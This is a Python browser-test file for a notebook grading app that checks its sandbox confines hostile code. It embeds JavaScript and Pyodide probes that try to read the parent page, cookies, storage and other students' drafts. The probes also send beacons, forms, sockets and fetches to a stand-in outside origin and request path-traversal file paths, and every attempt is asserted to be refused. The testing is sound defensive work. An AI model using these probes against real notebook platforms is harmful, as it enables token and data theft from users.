"""Hostile notebooks in the browser alone: what JavaScript and Python try there, in Chromium."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.async_api import expect
from starlette.responses import PlainTextResponse
from starlette.types import Receive, Scope, Send

from tests.support.browser import People, notebook
from tests.support.browser_alone import (
    START_MS,
    answer,
    exported,
    open_signed_in,
    saved,
    served,
)
from tests.support.served_course import Course, serving_app

# What a notebook's JavaScript may try, in the page of the frame and in its worker.
ATTEMPTS = """\
async ([server, elsewhere]) => {
  const found = {};
  const attempt = async (name, act) => {
    try {
      found[name] = String(await act());
    } catch (error) {
      found[name] = "refused";
    }
  };
  const opened = (name) => new Promise((resolve, reject) => {
    const request = indexedDB.open(name);
    request.onsuccess = () => resolve([...request.result.objectStoreNames].join());
    request.onerror = () => reject(new Error("no"));
  });
  const status = async (url) => (await fetch(url)).status;
  await attempt("assignments", () => status(server + "/assignments"));
  await attempt("draft", () => status(server + "/assignments/hw1/draft?user=alice"));
  await attempt("elsewhere", () => status(elsewhere));
  await attempt("database", () => opened("mograder"));
  await attempt("page", () => parent.document.body.textContent);
  await attempt("storage", () => parent.localStorage.length);
  await attempt("top", () => { top.location = elsewhere; return top.location.href; });
  await attempt("window", () => open(elsewhere).closed);
  await attempt("service worker", () => navigator.serviceWorker.register(server + "/web/files/x"));
  await attempt("script", () => import(elsewhere));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(elsewhere.replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("no"));
  }));
  await attempt("form", () => {
    const form = document.createElement("form");
    Object.assign(form, { action: elsewhere, method: "post" });
    document.body.append(form);
    form.submit();
    throw new Error("the other server tells whether it came");
  });
  const marks = ["img src", "iframe src", "embed src", "script src", "video src"];
  marks.push("link rel=prefetch href", "link rel=stylesheet href", "link rel=preconnect href");
  for (const mark of marks) {
    const place = document.createElement("div");
    place.innerHTML = `<${mark}="${elsewhere}/${mark.split(" ")[0]}">`;
    document.body.append(place);
  }
  navigator.sendBeacon?.(elsewhere, "x");
  // The page around hands in the files of the frame, and nothing else.
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ mograder: "files" }, "*", [port2]);
  const ask = (path) => new Promise((resolve, reject) => {
    port1.onmessage = ({ data }) => (data.blob ? resolve(data.blob.size) : reject(new Error("no")));
    port1.postMessage({ id: 1, path });
  });
  const frame = location.pathname.split("/").at(-2);
  for (const path of [
    "../assignments", "/me", elsewhere, `${frame}/../../../me`, `${frame}/%2e%2e/x`,
    `${frame}/index.html?x`, `${frame}/`, { path: "x" }, null,
  ]) {
    await attempt(`file ${JSON.stringify(path)}`, () => ask(path));
  }
  found.known = (await ask(`${frame}/index.html`)) > 1000;
  found.origin = self.origin;
  return found;
}
"""
# The same in the notebook's Python, which runs in a worker.
PYTHON_ATTEMPTS = """\
import json
import urllib.request

import js
from pyodide.code import run_js
from pyodide.http import open_url, pyfetch

found = {}


async def attempt(name, act):
    try:
        answer = act()
        if hasattr(answer, "then"):
            answer = await answer
        elif hasattr(answer, "__await__"):
            answer = await answer
        found[name] = str(answer)
    except BaseException:
        found[name] = "refused"


opened = run_js('''(name) => new Promise((resolve, reject) => {
  const request = indexedDB.open(name);
  request.onsuccess = () => resolve("open");
  request.onerror = () => reject(new Error("no"));
})''')
linked = run_js('''(url) => new Promise((resolve, reject) => {
  const socket = new WebSocket(url.replace("http", "ws"));
  socket.onopen = () => resolve("open");
  socket.onerror = () => reject(new Error("no"));
})''')
started = run_js('''(url) => new Promise((resolve, reject) => {
  const worker = new Worker(url);
  worker.onmessage = () => resolve("runs");
  worker.onerror = () => reject(new Error("no"));
})''')
fetched = run_js('''(url) => fetch(url, { credentials: "include", mode: "no-cors" })''')
imported = run_js("(url) => import(url)")
for place in (SERVER, ELSEWHERE):
    await attempt(f"fetch {place}", lambda: fetched(f"{place}/me"))
    await attempt(f"pyfetch {place}", lambda: pyfetch(f"{place}/me"))
    await attempt(f"open_url {place}", lambda: open_url(f"{place}/me").read())
    await attempt(f"urllib {place}", lambda: urllib.request.urlopen(f"{place}/me").read())
    await attempt(f"socket {place}", lambda: linked(place))
    await attempt(f"worker {place}", lambda: started(f"{place}/me"))
    await attempt(f"import {place}", lambda: imported(f"{place}/me"))
await attempt("draft", lambda: pyfetch(SERVER + "/assignments/hw1/draft?user=frank"))
await attempt("database", lambda: opened("mograder"))
await attempt("storage", lambda: js.localStorage.length)
await attempt("page", lambda: js.parent.document)
await attempt("cookies", lambda: js.document.cookie)
await attempt("service worker", lambda: js.navigator.serviceWorker.register(SERVER))
await attempt("cache", lambda: js.caches.open("mograder"))
# Forged messages: the worker's are passed on as results only.
run_js('''() => {
  for (const mograder of ["text", "ready", "failed", "files", "open"]) {
    self.postMessage({ mograder, text: "forged", protocol: 2 });
  }
}''')()
print("FOUND", json.dumps(found), "END")
"""

__all__ = ["exported", "served"]

pytestmark = [pytest.mark.long, pytest.mark.timeout(900)]


class Elsewhere:
    """Another server, on another port: another origin. It keeps the paths that it is asked for."""

    def __init__(self) -> None:
        self.url = ""
        self.asked: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.asked.append(scope["path"])
        await PlainTextResponse("elsewhere")(scope, receive, send)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    app = Elsewhere()
    with serving_app(app) as url:
        app.url = url
        yield app


async def test_a_hostile_notebook_reads_neither_token_nor_drafts(
    served: Course, elsewhere: Elsewhere, people: People
) -> None:
    person = await people.person("alice")
    page = await open_signed_in(person, served, "alice")
    frame = await notebook(page)
    found = await frame.evaluate(ATTEMPTS, [served.url, elsewhere.url])
    assert (found.pop("origin"), found.pop("known")) == ("null", True)
    assert {name: outcome for name, outcome in found.items() if outcome != "refused"} == {}
    assert len(found) >= 21
    # In the frame, but not of the frame: its own window may be sent nowhere else.
    await frame.evaluate("url => { location.href = url; }", elsewhere.url)
    await expect(page.locator("#said")).not_to_contain_text("token")
    assert page.url == f"{served.url}/web/items/hw1"
    assert all(each.url != f"{elsewhere.url}/" for each in page.frames)
    assert elsewhere.asked == []


async def test_hostile_python_reads_neither_token_nor_drafts(
    served: Course, elsewhere: Elsewhere, people: People
) -> None:
    person = await people.person("frank")
    page = await open_signed_in(person, served, "frank")
    frame = await notebook(page)
    named = f"SERVER, ELSEWHERE = {served.url!r}, {elsewhere.url!r}\n"
    await answer(page, named + PYTHON_ATTEMPTS, shown="ELSEWHERE")
    told = frame.get_by_text("FOUND {").last
    await expect(told).to_contain_text("END", timeout=START_MS)
    text = (await told.text_content()) or ""
    found = json.loads(text.partition("FOUND ")[2].partition(" END")[0])
    assert {name: outcome for name, outcome in found.items() if outcome != "refused"} == {}
    assert len(found) == 21
    assert elsewhere.asked == []
    await saved(page, "in this browser and on the server")
    await expect(page.locator("#said")).to_have_text("")
    # What was saved is the notebook, not a forged message.
    draft = served.root / ".mograder" / "drafts" / "hw1" / "frank.json"
    assert json.loads(draft.read_text())["text"].startswith("# /// script")
